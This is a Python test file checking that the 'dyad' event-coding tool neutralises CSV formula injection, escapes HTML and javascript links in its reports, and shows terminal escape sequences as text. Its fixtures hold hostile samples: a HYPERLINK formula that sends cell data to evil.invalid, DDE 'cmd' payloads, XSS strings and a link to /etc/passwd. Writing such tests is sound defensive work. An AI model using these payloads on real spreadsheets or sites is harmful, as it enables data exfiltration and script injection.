"""Output that stays data: CSV cells a spreadsheet will not run, Markdown that carries no HTML or
script links, and `dyad sql` rows that stream (issue 13)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from test_events import mention
from typer.testing import CliRunner

from dyad import csvsafe
from dyad.analysis.relations import RelationOptions
from dyad.cli.main import app
from dyad.records import ActorRef, Article, Evidence, Sentence
from dyad.report import write as report
from dyad.store import events as ev
from dyad.store.db import Store

runner = CliRunner()

# the CLI and the report over coded stores
pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'


# --- CSV ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (FORMULA, "'" + FORMULA),
        ("Pakistan", "Pakistan"),
        ("", ""),
        ("a=b", "a=b"),
        ("'=already", "'=already"),
        ("-9.2", "-9.2"),
        ("+1", "+1"),
        ("-1e5", "-1e5"),  # a number in a string runs nothing
        ("---GOV", "---GOV"),
        ("---", "---"),
        ("-", "-"),  # nor does a CAMEO code without a country
        ("---GOV()", "'---GOV()"),
        ("-gov", "'-gov"),
        ("-A1+B2", "'-A1+B2"),
        (-10.0, -10.0),
        (-3, -3),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell(value, safe):
    assert csvsafe.safe_cell(value) == safe


def test_safe_row_raw_switches(monkeypatch):
    row = ["=1", -10.0, "ok"]
    monkeypatch.delenv(csvsafe.ENV, raising=False)
    assert csvsafe.safe_row(row) == ["'=1", -10.0, "ok"]
    assert csvsafe.safe_row(row, raw=True) == row
    with csvsafe.raw_cells(True):
        assert csvsafe.safe_row(row) == row
    monkeypatch.setenv(csvsafe.ENV, "1")
    assert csvsafe.safe_row(row) == row
    with csvsafe.raw_cells(False):
        assert csvsafe.safe_row(row) == ["'=1", -10.0, "ok"]


def _hostile_event():
    return mention(
        "=cmd|' /C calc'!A0",
        doc=FORMULA,
        cameo="173",
        sentence="-2+3 said the minister.",
        source=ActorRef("@SUM(A1)", "USAGOV", "USA"),
        target=ActorRef("+Pakistan", "PAK", "PAK"),
    )


def test_code_csv_neutralises_formulas_not_numbers(monkeypatch):
    from dyad.cli.code import EventFormat, write_events

    monkeypatch.delenv(csvsafe.ENV, raising=False)
    buf = io.StringIO()
    assert write_events([_hostile_event()], buf, EventFormat.csv) == 1
    (row,) = csv.DictReader(io.StringIO(buf.getvalue()))
    assert row["doc_id"] == "'" + FORMULA
    assert row["event_id"] == "'=cmd|' /C calc'!A0"
    assert row["sentence"] == "'-2+3 said the minister."
    assert (row["source_text"], row["target_text"]) == ("'@SUM(A1)", "'+Pakistan")
    assert row["goldstein"] == "-5.0" and row["cameo"] == "173" and row["evidence_start"] == "25"

    for raw in ({"raw_csv": True}, {}):
        if not raw:
            monkeypatch.setenv(csvsafe.ENV, "1")
        buf = io.StringIO()
        write_events([_hostile_event()], buf, EventFormat.csv, **raw)
        (row,) = csv.DictReader(io.StringIO(buf.getvalue()))
        assert row["doc_id"] == FORMULA and row["source_text"] == "@SUM(A1)"


@pytest.mark.slow
def test_code_cli_csv_and_raw_csv(tmp_path, monkeypatch):
    monkeypatch.delenv(csvsafe.ENV, raising=False)
    src = tmp_path / "docs.jsonl"
    src.write_text(
        json.dumps({"id": "=1+1", "text": "Pakistani police arrested Hafiz Saeed in Lahore.", "date": "2019-07-17"})
        + "\n",
        encoding="utf-8",
    )
    for extra, doc_id in (([], "'=1+1"), (["--raw-csv"], "=1+1")):
        out = tmp_path / "events.csv"
        r = runner.invoke(app, ["code", str(src), "--format", "csv", "-o", str(out), *extra])
        assert r.exit_code == 0, r.output
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        assert rows and {row["doc_id"] for row in rows} == {doc_id}
        assert all(float(row["goldstein"]) < 0 for row in rows)


@pytest.fixture()
def hostile_store(db_path):
    with Store(db_path) as s:
        art = Article(
            id="a1",
            origin="a1.txt",
            kind="txt",
            raw="x",
            text="x",
            title="-Title",
            date="2019-07-26",
            url=FORMULA,
            source="@Wire",
            doc_id=None,
        )
        s.add_articles([(art, [Sentence("a1", 0, "x", 0, 1, 0, 1, 0)], None)])
        ev.add_events(s, [mention("m1", doc="a1", cameo="1712", source=ActorRef("=cmd()", "USAGOV", "USA"))])
    return db_path


def test_export_csv_and_gdelt_neutralise_formulas(hostile_store, monkeypatch):
    monkeypatch.delenv(csvsafe.ENV, raising=False)
    r = runner.invoke(app, ["export", "--format", "csv", "--db", hostile_store])
    assert r.exit_code == 0, r.output
    (row,) = csv.DictReader(io.StringIO(r.stdout))
    assert row["source_url"] == "'" + FORMULA and row["source_text"] == "'=cmd()"
    assert row["goldstein"] == "-9.2" and row["cameo"] == "1712"

    r = runner.invoke(app, ["export", "--format", "gdelt", "--db", hostile_store])
    cells = r.stdout.rstrip("\n").split("\t")
    assert cells[-1] == "'" + FORMULA and "'=CMD()" in cells and "-9.2" in cells

    for args, env in ((["--raw-csv"], None), ([], "1")):
        if env:
            monkeypatch.setenv(csvsafe.ENV, env)
        r = runner.invoke(app, ["export", "--format", "csv", "--db", hostile_store, *args])
        (row,) = csv.DictReader(io.StringIO(r.stdout))
        assert row["source_url"] == FORMULA and row["source_text"] == "=cmd()"


def test_sql_csv_neutralises_formulas(db_path, monkeypatch):
    monkeypatch.delenv(csvsafe.ENV, raising=False)
    Store(db_path).close()
    query = f"SELECT '{FORMULA.replace(chr(39), chr(39) * 2)}' AS url, -10.0 AS g, '-9.2' AS s, [1, 2] AS l, NULL AS n"
    r = runner.invoke(app, ["sql", query, "--db", db_path, "--format", "csv"])
    assert r.exit_code == 0, r.output
    assert list(csv.reader(io.StringIO(r.stdout))) == [
        ["url", "g", "s", "l", "n"],
        ["'" + FORMULA, "-10.0", "-9.2", "[1, 2]", ""],
    ]
    r = runner.invoke(app, ["sql", query, "--db", db_path, "--format", "csv", "--raw-csv"])
    assert list(csv.reader(io.StringIO(r.stdout)))[1][0] == FORMULA


# --- Markdown (and HTML) report --------------------------------------------------------------
PAYLOAD = (
    '<script>alert(1)</script> <img src=x onerror=alert(2)> <iframe src="javascript:alert(3)"></iframe> '
    "[click](javascript:alert(4)) | broken \\| cell & more"
)


@pytest.fixture(scope="module")
def payload_store(tmp_path_factory) -> str:
    path = str(tmp_path_factory.mktemp("payload") / "p.duckdb")
    arts = [
        Article(
            id="a1",
            origin="a1.html",
            kind="html",
            raw="x",
            text="x",
            title="<script>alert('t')</script>",
            date="2019-07-26",
            url="javascript:alert(5)",
            source="<iframe src=//evil.invalid>",
            doc_id=None,
        ),
        Article(
            id="a2",
            origin="a2.html",
            kind="html",
            raw="x",
            text="x",
            title="Fine [title](javascript:x)",
            date="2019-07-27",
            url="https://news.invalid/a)](javascript:alert(6)) <img src=x onerror=alert(7)>|",
            source="Wire",
            doc_id=None,
        ),
    ]
    usa = ActorRef("<b onmouseover=alert(8)>Washington</b>", "USAGOV", "USA")
    ms = []
    for i, doc in enumerate(["a1", "a2", "a1", "a2"]):
        m = mention(
            f"m{i}",
            doc=doc,
            date=f"2019-0{7 + i // 2}-{10 + i}",
            cameo="072",
            source=usa,
            sentence=f"Washington agreed to fund it. {PAYLOAD}",
            sentence_id=f"{doc}:{i}",
        )
        ms.append(m.__class__(**{**m.__dict__, "evidence": Evidence("<img src=y onerror=alert(9)>", 0, 4)}))
    with Store(path) as s:
        s.add_articles([(a, [Sentence(a.id, 0, "x", 0, 1, 0, 1, 0)], None) for a in arts])
        ev.add_events(s, ms)
    return path


def _unescaped_pipes(line: str) -> int:
    n, i = 0, 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        n += line[i] == "|"
        i += 1
    return n


def test_report_markdown_escapes_article_html(payload_store, tmp_path):
    with Store(payload_store, read_only=True) as store:
        path = report.write_report(store, "USA", "PAK", tmp_path / "r.md", RelationOptions(bootstrap=20))
    text = path.read_text(encoding="utf-8")
    assert "## Events" in text
    for tag in ("<script", "<img", "<iframe", "<b "):
        assert tag not in text.lower(), tag
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "&amp; more" in text
    targets = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)  # every link or image the Markdown makes
    assert targets, "the https article is linked"
    for target in targets:
        assert target.startswith("https://news.invalid/") or target.endswith(".svg"), target
        assert not re.search(r"[\s()<>\[\]|\\]", target), target
    assert "javascript:alert(5)" not in text  # not a link, and the non-http URL is not shown

    # as a CommonMark renderer with tables and raw HTML on reads it
    from markdown_it import MarkdownIt

    page = MarkdownIt("commonmark").enable("table").render(text).lower()
    for tag in ("<script", "<iframe", "<b "):
        assert tag not in page, tag
    assert re.findall(r"<img [^>]*>", page) == [
        '<img src="r-index.svg" alt="net cooperation index" />',
        '<img src="r-volume.svg" alt="events by quad class" />',
    ]
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(h.startswith("https://news.invalid/") for h in hrefs), hrefs
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "[click](javascript:alert(4))" in page
    lines = text.splitlines()
    head = lines.index("| date | source → target | CAMEO | quad | Goldstein | modality | m/s/a | evidence |")
    rows = [line for line in lines[head:] if line.startswith("|")]
    assert len(rows) >= 3 and len({_unescaped_pipes(line) for line in rows}) == 1


def test_report_html_still_escapes_article_html(payload_store, tmp_path):
    with Store(payload_store, read_only=True) as store:
        path = report.write_report(store, "USA", "PAK", tmp_path / "r.html", RelationOptions(bootstrap=20))
    page = path.read_text(encoding="utf-8").lower()
    for tag in ("<script", "<img", "<iframe", "<b "):
        assert tag not in page, tag
    assert 'href="javascript' not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(h.startswith("https://news.invalid/") for h in hrefs)


# --- dyad sql streams -------------------------------------------------------------------------
@pytest.fixture()
def empty_store(db_path) -> str:
    Store(db_path).close()
    return db_path


def test_sql_stream_batches_and_limit(empty_store):
    from dyad import api

    with api.sql("SELECT range AS i FROM range(25)", empty_store, stream=True) as rows:
        rows.batch = 4
        assert rows.columns == ("i",)
        assert [r[0] for r in rows] == list(range(25)) and not rows.truncated
    for limit, truncated in ((10, True), (25, False), (30, False), (0, True)):
        with api.sql("SELECT range AS i FROM range(25)", empty_store, limit=limit, stream=True) as rows:
            rows.batch = 3
            assert [r[0] for r in rows] == list(range(min(limit, 25)))
            assert rows.truncated is truncated, limit
    result = api.sql("SELECT range AS i FROM range(25)", empty_store, limit=5)
    assert result.rows == tuple((i,) for i in range(5)) and result.truncated


def test_sql_cli_table_shows_1000_rows_unless_told(empty_store):
    r = runner.invoke(app, ["sql", "SELECT range AS i FROM range(1500)", "--db", empty_store])
    assert r.exit_code == 0, r.output
    assert "showing the first 1000 rows; --limit 0 for all" in r.stderr
    assert "│ 999 │" in r.stdout and "│ 1000 │" not in r.stdout
    r = runner.invoke(app, ["sql", "SELECT range AS i FROM range(1500)", "--db", empty_store, "--limit", "0"])
    assert "│ 1499 │" in r.stdout and "showing" not in r.stderr
    r = runner.invoke(app, ["sql", "SELECT range AS i FROM range(1500)", "--db", empty_store, "--limit", "20"])
    assert "│ 19 │" in r.stdout and "│ 20 │" not in r.stdout and "(first 20 rows)" in r.stderr


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json"])
def test_sql_cli_machine_formats_are_complete(empty_store, fmt):
    n = 25_003  # more than two batches
    query = f"SELECT range AS i, 'r' || range AS s FROM range({n})"
    r = runner.invoke(app, ["sql", query, "--db", empty_store, "--format", fmt])
    assert r.exit_code == 0, r.output
    if fmt == "jsonl":
        rows = [json.loads(line) for line in r.stdout.splitlines()]
    elif fmt == "json":
        rows = json.loads(r.stdout)
    else:
        rows = [{"i": int(x["i"]), "s": x["s"]} for x in csv.DictReader(io.StringIO(r.stdout))]
    assert rows == [{"i": i, "s": f"r{i}"} for i in range(n)]
    assert "first" not in r.stderr
    r = runner.invoke(app, ["sql", query, "--db", empty_store, "--format", fmt, "--limit", "7"])
    lines = r.stdout.splitlines()
    assert (len(lines) if fmt == "jsonl" else len(json.loads(r.stdout)) if fmt == "json" else len(lines) - 1) == 7
    assert "(first 7 rows)" in r.stderr


def test_sql_cli_json_layout_is_unchanged(empty_store):
    query = "SELECT range AS i, [range, 2] AS l FROM range(3)"
    r = runner.invoke(app, ["sql", query, "--db", empty_store, "--format", "json"])
    expected = [{"i": i, "l": [i, 2]} for i in range(3)]
    assert r.stdout == json.dumps(expected, ensure_ascii=False, indent=2) + "\n"
    r = runner.invoke(app, ["sql", "SELECT 1 AS x WHERE false", "--db", empty_store, "--format", "json"])
    assert r.stdout == "[]\n"


def test_terminal_output_shows_markup_and_escape_sequences_as_text() -> None:
    from rich.console import Console

    from dyad.cli.common import shown

    hostile = "[bold red]fake[/bold red] [/] [link=file:///etc/passwd]x[/link] \x1b[2J\x07 \u202eevil"
    console = Console(record=True, width=200, color_system=None, force_terminal=False)
    console.print(shown(hostile), highlight=False)
    printed = console.export_text()
    assert "[bold red]fake[/bold red]" in printed and "[/]" in printed
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
    assert "\\x1b[2J" in printed and "\\u202e" in printed


def test_safe_output_dictwriter_writerows_is_safe_too():
    import io

    from dyad.csvsafe import DictWriter

    out = io.StringIO()
    writer = DictWriter(out, ["url", "g"], raw=False, lineterminator="\n")
    writer.writerows([{"url": '=HYPERLINK("http://x.invalid")', "g": -2.0}])
    assert out.getvalue() == '"\'=HYPERLINK(""http://x.invalid"")",-2.0\n'
